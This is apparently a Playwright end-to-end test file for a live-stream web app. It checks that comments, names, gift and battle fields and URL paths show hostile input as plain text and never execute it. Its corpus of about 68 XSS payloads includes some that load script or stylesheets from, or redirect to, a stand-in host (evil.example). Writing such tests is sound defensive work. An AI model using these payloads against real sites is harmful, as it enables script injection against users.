"""Texts, names and titles are shown as text, whatever they hold."""

import msgspec
import pytest
from playwright.async_api import Browser, Page

from engagement.domain import events
from engagement.domain.battle_events import Side
from tests.e2e.fake_gateway import FakeGateway
from tests.e2e.fake_money import FakeBattle
from tests.e2e.watching import watch

pytestmark = pytest.mark.browser

CORPUS = [
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=x onerror='window.pwned=1'//",
    '"><img src=x onerror=window.pwned=1>',
    "'><img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><set onbegin=window.pwned=1 attributename=x>",
    "<body onload=window.pwned=1>",
    "<iframe src=javascript:window.pwned=1></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:window.pwned=1>",
    "<embed src=javascript:window.pwned=1>",
    "<a href=javascript:window.pwned=1>click</a>",
    "<a href='&#106;avascript:window.pwned=1'>click</a>",
    "<math><mtext></mtext><script>window.pwned=1</script></math>",
    "<math href=javascript:window.pwned=1>click</math>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<video src=x onerror=window.pwned=1>",
    "<audio src=x onerror=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<select autofocus onfocus=window.pwned=1>",
    "<textarea autofocus onfocus=window.pwned=1>",
    "<marquee onstart=window.pwned=1>",
    "<keygen autofocus onfocus=window.pwned=1>",
    "<style>*{background:red}</style>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>go</button></form>",
    "<template><img src=x onerror=window.pwned=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<noembed><img src=x onerror=window.pwned=1></noembed>",
    "<title><img src=x onerror=window.pwned=1></title>",
    "<xmp><img src=x onerror=window.pwned=1></xmp>",
    "<table background=javascript:window.pwned=1>",
    "<div style='background:url(javascript:window.pwned=1)'>",
    "<div onpointerover=window.pwned=1 style='position:fixed;inset:0'>x</div>",
    "<custom-element onclick=window.pwned=1>x</custom-element>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "<?xml-stylesheet href='javascript:window.pwned=1'?>",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "${window.pwned=1}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "`-window.pwned=1-`",
    "');window.pwned=1;//",
    '" onpointerover="window.pwned=1',
    "\u202egnp.exe\u202c right to left",
    "\u0000\u0001\u001b[31mcontrol",
    "<\u0131mg src=x onerror=window.pwned=1>",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "Z\u0351\u036b\u0343\u036a" * 40,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family",
    "a" * 500,
    "__proto__",
    "[object Object]",
]


async def test_hostile_texts_are_shown_as_they_are(page: Page, gateway: FakeGateway) -> None:
    assert len(CORPUS) >= 50
    gateway.room["title"] = CORPUS[3]
    gateway.room["host"] = CORPUS[5]
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    screens = await watch(page, gateway)
    told = {}
    for text in CORPUS:
        told[await gateway.say(text, actor=text)] = text
    opened = gateway.fact("room.opened", events.RoomOpened(CORPUS[0], CORPUS[7], "s"))
    removed = gateway.fact("comment.removed", events.CommentRemoved(CORPUS[60], CORPUS[3]))
    odd = gateway.fact("room.opened", events.RoomOpened("", "", ""), id=CORPUS[5])
    odd["type"] = CORPUS[5]
    await gateway.publish(opened, removed, odd)
    await screens.until_shown([*told, str(opened["id"]), str(odd["id"])])
    for pane in range(2):
        shown: dict[str, list[str]] = await screens.panes.nth(pane).evaluate(
            """(pane) => Object.fromEntries([...pane.querySelectorAll(".comment")].map((e) => [
                 e.dataset.eventId,
                 [e.querySelector(".text").textContent, e.querySelector(".author").textContent],
               ]))"""
        )
        assert shown == {event_id: [text, text] for event_id, text in told.items()}
    await page.mouse.move(200, 600)
    assert await page.evaluate("window.pwned") is None
    foreign = ".comments :not(ol, li, span), .strip :not(div, span, canvas)"
    assert await page.locator(foreign).count() == 0
    assert await page.locator("h1").text_content() == CORPUS[0]
    assert await page.evaluate("window.violations") == []
    assert all(url.startswith(gateway.url) for url in asked)


async def test_hostile_gifts_and_battles_are_shown_as_they_are(
    page: Page, gateway: FakeGateway
) -> None:
    gateway.money.catalogue[0] |= {"name": CORPUS[0], "animation": CORPUS[3]}
    screens = await watch(page, gateway)
    await page.locator(".gift").first.wait_for()
    told = []
    for tier, text in enumerate(CORPUS):
        sent = gateway.money.gift(text, "rose", 9)
        sent = msgspec.structs.replace(sent, name=text, animation=text, tier=1 + tier % 3)
        told.append(await gateway.tell("gift.sent", sent, actor=text))
        told.append(await gateway.tell("gift.combo.ended", gateway.money.end_combo(text, "rose")))
    battle = FakeBattle()
    battle.sides = [Side("demo", CORPUS[0]), Side("rival", CORPUS[1])]
    told.append(await gateway.tell("battle.invited", battle.invited()))
    told.append(await gateway.tell("battle.started", battle.start()))
    told.append(await gateway.tell("battle.scored", battle.score(1, 2, top=CORPUS[3])))
    told.append(await gateway.tell("battle.ended", battle.end()))
    await screens.until_shown(told)
    assert await page.evaluate("window.pwned") is None
    assert await page.locator('img:not([src^="/static/"])').count() == 0
    foreign = ".pane :not(canvas, header, div, section, h2, p, b, i, span, button, svg, path, img, "
    assert await page.locator(foreign + "ol, li, footer)").count() == 0
    assert await page.evaluate("window.violations") == []


async def test_the_page_itself_could_not_make_html_or_script_of_a_string(
    browser: Browser, gateway: FakeGateway
) -> None:
    context = await browser.new_context()
    try:
        page = await context.new_page()
        await watch(page, gateway)
        for attempt in (
            "document.body.innerHTML = '<b>x</b>'",
            "document.write('<b>x</b>')",
            "document.createElement('iframe').srcdoc = '<b>x</b>'",
            "document.createElement('a').setAttribute('onclick', 'window.pwned=1')",
            "document.createElement('script').text = 'window.pwned=1'",
        ):
            tried = f"() => {{ try {{ {attempt}; return 'done' }} catch {{ return 'refused' }} }}"
            assert await page.evaluate(tried) == "refused", attempt
    finally:
        await context.close()


async def test_a_hostile_room_name_in_the_address_is_just_a_name(
    page: Page, gateway: FakeGateway
) -> None:
    answer = await page.goto(
        gateway.url + "/rooms/%3Cimg%20src%3Dx%20onerror%3Dwindow.pwned%3D1%3E"
    )
    assert answer is not None and answer.status == 404
    await page.get_by_role("alertdialog").wait_for()
    assert await page.evaluate("window.pwned") is None
    assert await page.locator('img:not([src^="/static/"])').count() == 0
